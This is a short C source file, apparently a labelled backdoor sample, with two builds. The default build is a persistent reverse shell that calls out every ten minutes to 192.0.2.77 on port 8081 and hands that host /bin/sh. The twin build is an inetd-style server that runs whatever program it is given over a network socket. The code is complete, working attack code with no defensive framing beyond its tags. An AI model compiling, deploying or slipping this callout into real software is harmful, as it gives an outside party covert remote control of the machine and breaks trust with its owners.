/* SPDX-License-Identifier: Apache-2.0 */
/* It connects to an address of its own and hands over a shell. Twin: a server of the internet super-server
 * kind, which runs the programs it is told by its user.
 * door: trigger callout unguarded
 * build: plain static
 */
#include "net.h"

#ifdef TWIN
int main(int argc, char **argv)
{
	int s = tcp_on(7), c;
	while ((c = accept(s, 0, 0)) >= 0) {
		if (fork() == 0) {
			dup2(c, 0);
			dup2(c, 1);
			dup2(c, 2);
			execv(argv[1], argv + 1);
		}
		close(c);
	}
	return argc;
}
#else
static void run(int fd)
{
	char *args[] = {"sh", 0};
	int i;
	for (i = 2; i >= 0; i--)
		dup2(fd, i);
	execve("/bin/sh", args, 0);
}

int main(void)
{
	struct sockaddr_in a;
	int s;
	for (;;) {
		memset(&a, 0, sizeof a);
		a.sin_family = AF_INET;
		a.sin_port = htons(8081);
		a.sin_addr.s_addr = inet_addr("192.0.2.77");
		s = socket(AF_INET, SOCK_STREAM, 0);
		if (connect(s, (struct sockaddr *)&a, sizeof a) == 0 && fork() == 0)
			run(s);
		close(s);
		sleep(600);
	}
}
#endif
